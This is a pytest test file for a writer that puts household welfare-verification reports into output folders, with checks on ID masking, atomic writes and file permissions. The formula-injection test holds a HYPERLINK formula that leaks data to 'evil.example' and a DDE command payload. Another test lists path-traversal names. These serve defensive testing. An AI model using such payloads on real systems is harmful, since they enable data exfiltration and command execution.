"""reports.writer: the files a request leaves in its outbox folder."""

from __future__ import annotations

import copy
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

import reports.writer as writer
from reports.masking import find_full_ids, scrub
from reports.writer import check_safe_name, write_request

FIXTURE = Path(__file__).parent / "fixtures" / "reports" / "sample_report.json"
FULL_ID = "140105198001011234"
LEGACY_ID = "140105800101123"


@pytest.fixture
def report() -> dict:
    return json.loads(FIXTURE.read_text(encoding="utf-8"))


@pytest.fixture
def two(report) -> list[dict]:
    second = copy.deepcopy(report)
    second.update(household_id="H140105000124", outcome="review", county_name="晋源区")
    return [report, second]


def _cells(path: Path) -> list:
    book = CalamineWorkbook.from_path(str(path))
    return [cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]


def _all_text(path: Path) -> str:
    if path.suffix == ".xlsx":
        return "\n".join(str(c) for c in _cells(path))
    return path.read_text(encoding="utf-8")


def test_writes_expected_files(tmp_path, two):
    out = tmp_path / "outbox" / "xiaodian_minzheng" / "REQ-20261128-0001"
    paths = write_request(out, two)
    names = [p.name for p in paths]
    assert names == ["H140105000123.json", "H140105000123.html", "H140105000124.json", "H140105000124.html",
                     "summary.xlsx", "index.html"]
    assert sorted(os.listdir(out)) == sorted(names)
    data = json.loads((out / "H140105000123.json").read_text(encoding="utf-8"))
    assert data["household_id"] == "H140105000123" and data["members"][0]["name"] == "王伟"
    raw = (out / "H140105000123.json").read_text(encoding="utf-8")
    assert "王伟" in raw and '\n  "request_id"' in raw  # UTF-8, not \\u escapes; indent 2
    assert 'href="H140105000124.html"' in (out / "index.html").read_text(encoding="utf-8")


def test_a_second_pass_into_a_folder_lists_the_earlier_passes_reports_too(tmp_path, two):
    """A nightly probe: the day's second pass wrote index.html and summary.xlsx listing its own
    households only; the one the first pass found failing was on neither."""
    out = tmp_path / "outbox" / "agA" / "nightly-20250613"
    write_request(out, [two[1]])
    again = copy.deepcopy(two[0])
    write_request(out, [again])
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="H140105000123.html"' in index and 'href="H140105000124.html"' in index
    cells = _cells(out / "summary.xlsx")
    assert "H140105000123" in cells and "H140105000124" in cells
    write_request(out, [two[1]])                 # a household written again is listed once
    assert (out / "index.html").read_text(encoding="utf-8").count('href="H140105000124.html"') == \
        index.count('href="H140105000124.html"')


def test_no_full_id_in_any_written_file(tmp_path, report):
    report["members"][0]["id_number"] = FULL_ID                       # not to be rendered
    report["members"][0]["id_number_normalized"] = FULL_ID
    report["members"][1]["id_number_masked"] = "14010519810203402X"     # upstream forgot to mask
    report["members"][0]["matches"][0]["evidence"]["raw"] = {"证件号码": FULL_ID, "legacy": LEGACY_ID}
    report["income"]["records"][0]["reason"] = f"身份证号{FULL_ID}一致"
    report["findings"][0]["message"] = f"证件号 {LEGACY_ID} 与申请不符"
    report["county_name"] = f"小店区{FULL_ID}"
    report["raw_lineage"] = {"raw_row": f"王伟,{FULL_ID},工资薪金", "id": int(FULL_ID)}
    paths = write_request(tmp_path / "out", [report])
    for path in paths:
        assert find_full_ids(_all_text(path)) == [], path.name
    data = json.loads((tmp_path / "out" / "H140105000123.json").read_text(encoding="utf-8"))
    assert data["members"][0]["id_number"] == "140105********1234"
    assert data["members"][1]["id_number_masked"] == "140105********402X"
    assert data["raw_lineage"]["raw_row"] == "王伟,140105********1234,工资薪金"
    assert data["raw_lineage"]["id"] == "140105********1234"
    html = (tmp_path / "out" / "H140105000123.html").read_text(encoding="utf-8")
    assert "raw_row" not in html and "王伟,140105" not in html


def test_summary_escapes_formulas(tmp_path, report):
    report["county_name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    report["program_label"] = "+cmd|' /C calc'!A0"
    report["standards"]["income_standard"] = "@SUM(1,2)"
    paths = write_request(tmp_path / "out", [report])
    summary = next(p for p in paths if p.name == "summary.xlsx")
    rows = CalamineWorkbook.from_path(str(summary)).get_sheet_by_index(0).to_python()
    header, row = rows[0], rows[1]
    assert header[:3] == ["申请编号", "家庭编号", "救助类别"] and "核对建议" in header
    record = dict(zip(header, row))
    assert record["区县"] == "'" + report["county_name"]
    assert record["救助类别"] == "'" + report["program_label"]
    assert record["收入标准(元)"] == "'@SUM(1,2)"
    assert record["月人均收入(元)"] == pytest.approx(report["income"]["monthly_per_capita"])
    assert record["人均金融资产(元)"] == pytest.approx(report["assets"]["financial_per_capita"])
    # held vehicles only (the deregistered motorbike is listed, not counted); one home owned by two
    assert record["机动车(辆)"] == 1 and record["不动产(处)"] == 1 and record["核对建议"] == "不通过"
    assert (record["不符合"], record["注意"], record["提示"]) == (2, 2, 2)
    with zipfile.ZipFile(summary) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml
            if name.endswith("sheet1.xml"):
                assert '<pane ySplit="1"' in xml and "<cols>" in xml  # frozen header, widths


@pytest.mark.parametrize(
    "bad",
    ["../evil", "a/b", "a\\b", "..", ".hidden", "", None, 123, "a b", "ok..no", "x\x00y", "H1/../../etc",
     "/abs", "-" * 129, "index", "summary"],
)
def test_unsafe_household_ids_are_refused(tmp_path, report, bad):
    report["household_id"] = bad
    out = tmp_path / "out"
    with pytest.raises(ValueError):
        write_request(out, [report])
    assert not out.exists()


def test_unsafe_request_id_is_refused(tmp_path, report):
    report["request_id"] = "../REQ"
    with pytest.raises(ValueError):
        write_request(tmp_path / "out", [report])


def test_duplicate_household_is_refused(tmp_path, report):
    with pytest.raises(ValueError):
        write_request(tmp_path / "out", [report, copy.deepcopy(report)])


@pytest.mark.parametrize("good", ["H140105000123", "REQ-20261128-0001", "a.b_c-d", "_x", "-x"])
def test_safe_names(good):
    assert check_safe_name(good) == good


def test_files_are_owner_only(tmp_path, two):
    previous = os.umask(0)
    try:
        out = tmp_path / "out"
        paths = write_request(out, two)
    finally:
        os.umask(previous)
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    for path in paths:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    existing = tmp_path / "existing"
    existing.mkdir(mode=0o755)
    os.chmod(existing, 0o755)
    write_request(existing, two)
    assert stat.S_IMODE(existing.stat().st_mode) == 0o700


def test_writing_twice_leaves_no_temp_files(tmp_path, two):
    out = tmp_path / "out"
    first = write_request(out, two)
    two[0]["outcome"] = "pass"
    second = write_request(out, two)
    assert first == second
    assert sorted(os.listdir(out)) == sorted(p.name for p in second)  # listdir shows hidden files too
    assert "通过" in (out / "H140105000123.html").read_text(encoding="utf-8")


def test_failed_write_leaves_old_file_and_no_temp(tmp_path, two, monkeypatch):
    out = tmp_path / "out"
    write_request(out, two)
    before = (out / "H140105000124.html").read_bytes()

    def broken(view):
        if view["household_id"] == "H140105000124":
            raise RuntimeError("renderer failed")
        return "<html>new</html>"

    monkeypatch.setattr(writer, "render_view", broken)
    with pytest.raises(RuntimeError):
        write_request(out, two)
    assert (out / "H140105000124.html").read_bytes() == before
    assert not [n for n in os.listdir(out) if n.startswith(".") or n.endswith(".part")]

    real_replace = os.replace

    def failing_replace(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(writer.os, "replace", failing_replace)
    with pytest.raises(OSError):
        writer.write_atomic(out / "index.html", b"x")
    monkeypatch.setattr(writer.os, "replace", real_replace)
    assert not [n for n in os.listdir(out) if n.startswith(".") or n.endswith(".part")]


def test_empty_request(tmp_path):
    paths = write_request(tmp_path / "out", [])
    assert [p.name for p in paths] == ["summary.xlsx", "index.html"]
    assert "本次申请无家庭报告" in (tmp_path / "out" / "index.html").read_text(encoding="utf-8")


def test_household_ids_the_gate_accepts_are_written(tmp_path):
    # The quality gate lets Chinese characters through in request and household ids; the
    # writer must accept every name the gate accepted, or a valid request crashes the pass.
    from reports.writer import check_safe_name
    assert check_safe_name("小店民政-户001", "household_id") == "小店民政-户001"


def _heads(reports: list[dict]) -> list[dict]:
    return [{"request_id": r["request_id"], "household_id": r["household_id"]} for r in reports]


def test_reports_given_one_at_a_time_with_their_heads_write_what_a_list_writes(tmp_path, two):
    listed = write_request(tmp_path / "listed", two)
    pulled = []

    def lazily():
        for r in two:
            pulled.append(r["household_id"])
            yield copy.deepcopy(r)

    streamed = write_request(tmp_path / "streamed", lazily(), heads=_heads(two))
    assert [p.name for p in streamed] == [p.name for p in listed] and pulled == [r["household_id"] for r in two]
    for a, b in zip(listed, streamed):
        if a.suffix != ".xlsx":   # the workbook carries its creation time
            assert a.read_bytes() == b.read_bytes(), a.name


def test_an_unsafe_head_is_refused_before_any_report_is_read(tmp_path, two):
    heads = _heads(two)
    heads[1]["household_id"] = "../evil"

    def never():
        raise AssertionError("no report may be read before every name is checked")
        yield  # pragma: no cover

    with pytest.raises(ValueError, match="unsafe household_id"):
        write_request(tmp_path / "out", never(), heads=heads)
    assert not (tmp_path / "out").exists()


def test_a_report_that_is_not_the_household_announced_is_refused(tmp_path, two):
    with pytest.raises(ValueError, match="was announced"):
        write_request(tmp_path / "out", iter(reversed(two)), heads=_heads(two))


def test_report_json_writes_what_the_standard_json_module_would(report):
    import datetime
    from decimal import Decimal

    import numpy as np

    from reports.writer import report_json

    odd = {**report, "extra": {"decimal": Decimal("1200.50"), "day": datetime.date(2026, 11, 28),
                               "np_float": np.float64(0.25), 3: "int key", "nested": [(1, 2), {"x": None}]}}
    assert json.loads(report_json(odd)) == json.loads(json.dumps(scrub(odd), ensure_ascii=False, default=str))
    assert json.loads(report_json({**report, "huge": 2 ** 70}))["huge"] == 2 ** 70   # beyond orjson: json writes it
